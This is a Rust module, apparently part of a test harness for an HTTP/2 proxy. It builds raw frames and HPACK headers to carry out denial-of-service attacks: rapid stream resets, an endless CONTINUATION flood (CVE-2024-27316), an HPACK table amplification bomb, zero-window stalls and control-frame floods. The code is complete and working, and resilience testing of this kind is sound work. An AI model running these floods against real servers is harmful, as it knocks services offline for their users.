//! HTTP/2 of clients without D2TP, frame by frame: what a library for clients does not send (RFC 9113).
//!
//! ```text
//!  resets    HEADERS, RST_STREAM …          HEADERS, WINDOW_UPDATE of 0 … which the proxy has to reset
//!  heads     HEADERS, CONTINUATION …        references to one large field        a head without its last byte
//!  windows   SETTINGS: no window, HEADERS … and a byte of window now and then
//!  control   PING, SETTINGS, PRIORITY …     and nothing is read
//! ```

use std::net::SocketAddr;

use anyhow::{Context, Result};

use super::attack_context::{AttackContext, AttackTally};
use super::tcp_flood::{Reading, Script, ScriptedConnection, connect, keep_connections};

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

const DATA: u8 = 0;
const HEADERS: u8 = 1;
const PRIORITY: u8 = 2;
const RST_STREAM: u8 = 3;
const SETTINGS: u8 = 4;
const PING: u8 = 6;
const WINDOW_UPDATE: u8 = 8;
const CONTINUATION: u8 = 9;
/// A type that no specification has: it is ignored.
const UNKNOWN: u8 = 0xfe;

const END_STREAM: u8 = 1;
const END_HEADERS: u8 = 4;
/// Neither flag.
const OPEN: u8 = 0;

/// SETTINGS_INITIAL_WINDOW_SIZE.
const INITIAL_WINDOW_SIZE: u16 = 4;
/// The reason of a client that wants an answer no more.
const CANCEL: u32 = 8;
/// The largest frame that a server takes without being asked.
const FRAME_BYTES: usize = 16 * 1024;
/// Streams of one connection at once, as the proxy has it.
const STREAMS: u32 = 100;
/// A field in HPACK that is large, and put into the dynamic table.
const TABLE_FIELD_BYTES: usize = 3_900;
/// References to it of one head: unpacked, 60 MB.
const REFERENCES: usize = 15_000;

/// What a client does by HTTP/2.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Http2Attack {
    /// Streams that are reset as soon as they are opened.
    Resets,
    /// Heads that have no end, or grow when they are unpacked.
    Heads,
    /// Answers without room for them.
    Windows,
    /// Frames that ask for an answer, which is not read.
    Control,
}

/// Attacks from as many addresses as the attacker has keys, each of which is a client, until the time is over.
pub fn attack_http2(attack: Http2Attack, context: &AttackContext) -> Result<AttackTally> {
    let to = context.tcp.proxy.context("the proxy has no TCP port")?;
    // Of each address.
    let connections = match attack {
        Http2Attack::Resets | Http2Attack::Control => 16,
        Http2Attack::Heads => 1_100,
        Http2Attack::Windows => 24,
    };
    let count = connections * context.keys as usize;
    keep_connections(count, context.until, |number| {
        let tcp = connect(to, number % context.keys)?;
        let which = number / context.keys;
        let (reading, script) = match attack {
            Http2Attack::Resets => (Reading::All, resets(which, context.http)),
            Http2Attack::Heads => (Reading::All, heads(which, context.http)),
            Http2Attack::Windows => (Reading::All, windows(which, context.http)),
            Http2Attack::Control => (Reading::Nothing, control(which, context.http)),
        };
        ScriptedConnection::new(tcp, reading, script)
    })
}

/// Requests that are reset at once, by this end or by the proxy.
fn resets(number: u64, origin: SocketAddr) -> Script {
    let (mut stream, mut begun) = (1, false);
    Box::new(move |unsent| {
        begin(unsent, &mut begun, &[]);
        for _ in 0..50 {
            let head = request(origin, &format!("/object/{}", 100_000 + stream));
            frame(unsent, HEADERS, END_STREAM | END_HEADERS, stream, &head);
            match number % 2 {
                0 => frame(unsent, RST_STREAM, OPEN, stream, &CANCEL.to_be_bytes()),
                // An error of the stream, for which the proxy resets it (RFC 9113 §6.9).
                _ => frame(unsent, WINDOW_UPDATE, OPEN, stream, &[0; 4]),
            }
            stream += 2;
        }
    })
}

/// Heads that cost the proxy more than they should.
fn heads(number: u64, origin: SocketAddr) -> Script {
    let mut begun = false;
    let filler = literal(b"x-filler", &[b'f'; 1_000]);
    match number % 4 {
        // CONTINUATION without an end (CVE-2024-27316 and its kin).
        0 => Box::new(move |unsent| {
            if !begun {
                begin(unsent, &mut begun, &[]);
                frame(
                    unsent,
                    HEADERS,
                    END_STREAM,
                    1,
                    &request(origin, "/object/1"),
                );
            }
            let fields = filler.repeat(FRAME_BYTES / filler.len());
            frame(unsent, CONTINUATION, OPEN, 1, &fields);
        }),
        // One large field in the table, and references to it of a byte each.
        1 => {
            let mut stream = 1;
            Box::new(move |unsent| {
                begin(unsent, &mut begun, &[]);
                let mut head = request(origin, "/object/1");
                head.extend_from_slice(&indexed(b"x-large", &[b'l'; TABLE_FIELD_BYTES]));
                head.extend_from_slice(&[0xbe; REFERENCES - TABLE_FIELD_BYTES]);
                head.truncate(FRAME_BYTES);
                frame(unsent, HEADERS, END_STREAM | END_HEADERS, stream, &head);
                stream += 2;
            })
        }
        // Heads of almost the largest size, for answers that never come.
        2 => {
            let mut stream = 1;
            Box::new(move |unsent| {
                begin(unsent, &mut begun, &[]);
                if stream > 2 * STREAMS {
                    return;
                }
                frame(
                    unsent,
                    HEADERS,
                    END_STREAM,
                    stream,
                    &request(origin, "/slow/1"),
                );
                let fields = filler.repeat(15);
                frame(unsent, CONTINUATION, OPEN, stream, &fields);
                frame(unsent, CONTINUATION, OPEN, stream, &fields);
                frame(unsent, CONTINUATION, OPEN, stream, &fields);
                frame(
                    unsent,
                    CONTINUATION,
                    END_HEADERS,
                    stream,
                    &filler.repeat(10),
                );
                stream += 2;
            })
        }
        // A head whose last fragment never comes, of little less than the largest size.
        _ => Box::new(move |unsent| {
            if begun {
                return;
            }
            begin(unsent, &mut begun, &[]);
            frame(
                unsent,
                HEADERS,
                END_STREAM,
                1,
                &request(origin, "/object/1"),
            );
            for _ in 0..3 {
                frame(unsent, CONTINUATION, OPEN, 1, &filler.repeat(15));
            }
        }),
    }
}

/// Answers for which there is no window, or one of a byte now and then.
fn windows(number: u64, origin: SocketAddr) -> Script {
    let is_byte_by_byte = number % 2 == 1;
    let (mut begun, mut turn) = (false, 0_u32);
    Box::new(move |unsent| {
        if !begun {
            begin(unsent, &mut begun, &[(INITIAL_WINDOW_SIZE, 0)]);
            for stream in (0..STREAMS).map(|n| 2 * n + 1) {
                let head = request(origin, &format!("/object/{}", 1_000_000 + stream));
                frame(unsent, HEADERS, END_STREAM | END_HEADERS, stream, &head);
            }
            return;
        }
        turn += 1;
        if is_byte_by_byte && turn % 16 == 0 {
            for stream in (0..STREAMS).map(|n| 2 * n + 1) {
                frame(unsent, WINDOW_UPDATE, OPEN, stream, &1_u32.to_be_bytes());
            }
        }
    })
}

/// Frames that a proxy answers, acknowledges or at least looks at, as fast as it takes them.
fn control(number: u64, origin: SocketAddr) -> Script {
    let mut begun = false;
    Box::new(move |unsent| {
        let is_first = !begun;
        begin(unsent, &mut begun, &[]);
        if is_first {
            let head = request(origin, "/slow/0");
            frame(unsent, HEADERS, END_HEADERS, 1, &head);
        }
        for _ in 0..200 {
            match number % 6 {
                0 => frame(unsent, PING, OPEN, 0, b"answerme"),
                1 => frame(
                    unsent,
                    SETTINGS,
                    OPEN,
                    0,
                    &settings(&[(INITIAL_WINDOW_SIZE, 1); 50]),
                ),
                2 => frame(unsent, PRIORITY, OPEN, 3, &[0, 0, 0, 1, 0]),
                3 => frame(unsent, DATA, OPEN, 1, b""),
                4 => frame(unsent, UNKNOWN, OPEN, 0, &[0; 64]),
                _ => frame(unsent, WINDOW_UPDATE, OPEN, 1, &1_u32.to_be_bytes()),
            }
        }
    })
}

/// Preface and SETTINGS, once.
fn begin(unsent: &mut Vec<u8>, begun: &mut bool, values: &[(u16, u32)]) {
    if !*begun {
        *begun = true;
        unsent.extend_from_slice(PREFACE);
        frame(unsent, SETTINGS, OPEN, 0, &settings(values));
    }
}

fn settings(values: &[(u16, u32)]) -> Vec<u8> {
    let of = |(name, value): &(u16, u32)| [&name.to_be_bytes()[..], &value.to_be_bytes()].concat();
    values.iter().flat_map(of).collect()
}

fn frame(into: &mut Vec<u8>, kind: u8, flags: u8, stream: u32, content: &[u8]) {
    into.extend_from_slice(&(content.len() as u32).to_be_bytes()[1..]);
    into.extend_from_slice(&[kind, flags]);
    into.extend_from_slice(&stream.to_be_bytes());
    into.extend_from_slice(content);
}

/// The head of a GET in HPACK.
fn request(origin: SocketAddr, path: &str) -> Vec<u8> {
    // `:method: GET` and `:scheme: http` of the static table, then `:authority` and `:path` by their names in it.
    let mut head = vec![0x82, 0x86, 0x01];
    string(&mut head, origin.to_string().as_bytes());
    head.push(0x04);
    string(&mut head, path.as_bytes());
    head
}

/// A field that does not enter the dynamic table.
fn literal(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0x00];
    string(&mut field, name);
    string(&mut field, value);
    field
}

/// A field that enters the dynamic table, as its first.
fn indexed(name: &[u8], value: &[u8]) -> Vec<u8> {
    let mut field = vec![0x40];
    string(&mut field, name);
    string(&mut field, value);
    field
}

/// A string without Huffman's code (RFC 7541 §5.2).
fn string(into: &mut Vec<u8>, bytes: &[u8]) {
    const PREFIX_MAX: usize = 127;
    if bytes.len() < PREFIX_MAX {
        into.push(bytes.len() as u8);
    } else {
        into.push(PREFIX_MAX as u8);
        let mut rest = bytes.len() - PREFIX_MAX;
        while rest >= 128 {
            into.push(rest as u8 | 0x80);
            rest >>= 7;
        }
        into.push(rest as u8);
    }
    into.extend_from_slice(bytes);
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn strings_and_frames_have_their_lengths() {
        let mut long = Vec::new();
        string(&mut long, &[b'f'; 1_000]);
        // RFC 7541 §5.1: 127, then 873 in groups of seven bits, the lowest first.
        assert_eq!(long[..4], [127, 0xe9, 6, b'f']);
        let mut ping = Vec::new();
        frame(&mut ping, PING, OPEN, 0, b"12345678");
        assert_eq!(ping, b"\0\0\x08\x06\0\0\0\0\x0012345678");
    }
}
